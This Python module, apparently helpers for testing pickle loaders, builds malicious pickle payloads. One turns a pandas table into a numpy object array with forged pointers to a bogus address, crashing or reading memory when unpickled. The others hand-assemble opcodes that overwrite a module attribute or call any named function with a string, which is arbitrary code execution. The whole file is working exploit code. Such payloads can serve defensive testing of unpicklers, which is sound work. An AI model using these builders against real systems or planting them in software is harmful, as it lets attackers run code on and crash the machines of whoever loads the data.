"""Pickles that take over or crash the process that restores them, instead of what a recorder leaves."""

from __future__ import annotations

import io
import pickle
import struct
from typing import TYPE_CHECKING, Any, Final

import numpy as np

if TYPE_CHECKING:
    import pandas as pd

NOWHERE: Final = 0x4141_4141_4141
"""An address at which no process has memory."""


class _Flagless:
    """The type of objects whose state says that its values are no references."""

    def __reduce__(self) -> tuple[object, ...]:
        return np.dtype, ("O8", False, True), (3, "|", None, None, None, -1, -1, 0)


class _ByAddress(pickle.Pickler):
    """Writes arrays of objects as the addresses of objects."""

    def reducer_override(self, value: object) -> Any:
        """Return how an array of objects is made of bytes; everything else is made as usual."""
        if not isinstance(value, np.ndarray) or value.dtype != object:
            return NotImplemented
        state = (1, value.shape, _Flagless(), False, struct.pack("Q", NOWHERE) * value.size)
        return np._core.multiarray._reconstruct, (np.ndarray, (0,), b"b"), state  # type: ignore[attr-defined]


def of_addresses(table: pd.DataFrame) -> bytes:
    """Return a table that reads memory where the attacker says as soon as its values are looked at."""
    stream = io.BytesIO()
    _ByAddress(stream, protocol=4).dump(table.astype(object))
    return stream.getvalue()


def patching(module: str, name: str, attribute: str) -> bytes:
    """Return a pickle that sets an attribute of what a module holds, by the opcode that restores a state."""
    words = b"".join(b"\x8c" + bytes([len(word)]) + word.encode() for word in (module, name))
    key = b"\x8c" + bytes([len(attribute)]) + attribute.encode()
    return b"\x80\x04" + words + b"\x93" + b"N}" + key + b"K\x01s\x86b."


def calling(module: str, name: str, argument: str) -> bytes:
    """Return a pickle that calls a function with a text."""
    words = [b"\x8c" + bytes([len(word)]) + word.encode() for word in (module, name, argument)]
    return b"\x80\x04" + words[0] + words[1] + b"\x93" + words[2] + b"\x85R."
